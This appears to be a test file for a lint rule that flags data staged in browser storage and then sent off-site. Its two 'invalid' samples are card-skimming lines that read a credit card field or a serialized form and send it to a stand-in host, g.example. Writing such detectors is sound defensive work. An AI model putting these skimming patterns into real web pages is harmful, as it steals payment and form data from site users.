import rule from './storage-staging.js';
import { ruleTable } from '../test/helpers/rule-table.js';

ruleTable(rule, {
  valid: [
    "localStorage.setItem('cart', JSON.stringify(cart)); fetch('/api');",
    "localStorage.setItem('cc', document.getElementById('cc-number').value);",
    "sessionStorage.setItem('theme', 'dark'); navigator.sendBeacon('/b', 'x');",
  ],
  invalid: [
    { code: "localStorage.setItem('x', document.getElementById('cc-number').value); var x = new XMLHttpRequest(); x.open('POST', 'https://g.example/'); x.send(localStorage.getItem('x'));", messageIds: ['staged'], severity: 'high' },
    { code: "var d = $('form').serialize(); sessionStorage.setItem('d', d); new Image().src = 'https://g.example/?' + sessionStorage.getItem('d');", messageIds: ['staged'] },
  ],
});
